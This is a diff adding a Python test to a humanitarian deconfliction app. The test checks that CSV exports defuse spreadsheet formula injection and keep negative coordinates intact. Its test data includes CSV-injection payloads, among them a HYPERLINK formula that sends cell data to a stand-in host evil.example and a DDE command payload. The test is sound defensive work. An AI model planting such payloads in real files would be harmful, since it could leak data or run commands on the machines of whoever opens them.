@@ -138,3 +138,37 @@ def test_pages(user: Any, parties: Any) -> None:
     assert _client(user, "case_worker").get("/deconfliction/").status_code == 403
     assert _client(user, "analyst").get("/deconfliction/sites/new/").status_code == 403
     assert _client(user, "monitor2").get("/deconfliction/party/").status_code == 403
+
+
+def test_csv_export_never_starts_a_formula_and_keeps_negative_numbers(
+    api: Any, parties: Any
+) -> None:
+    import csv
+    import io
+
+    names = ['=HYPERLINK("http://evil.example/?d="&A2,"Click")', "+cmd|' /C calc'!A0", "@SUM(1)"]
+    sites = [
+        api("monitor2")
+        .post(
+            "/api/v1/deconfliction/sites",
+            {
+                "name": name,
+                "site_type": "health_facility",
+                "lat": -3.5,
+                "lon": -60.25,
+                "valid_from": "2025-05-01",
+            },
+        )
+        .json()["id"]
+        for name in names
+    ]
+    sent = api("coordinator2").post(
+        "/api/v1/deconfliction/notifications", {"parties": ["party-a"], "sites": sites}
+    )
+    assert sent.status_code == 201, sent.content
+    text = api("party-a-focal").get("/api/v1/deconfliction/exports/party-a/csv").content.decode()
+    _notice, _header, tags, *rows = list(csv.reader(io.StringIO(text)))
+    assert sorted(r[tags.index("#loc+name")] for r in rows) == sorted("'" + n for n in names)
+    assert {(r[tags.index("#geo+lat")], r[tags.index("#geo+lon")]) for r in rows} == {
+        ("-3.5", "-60.25")
+    }
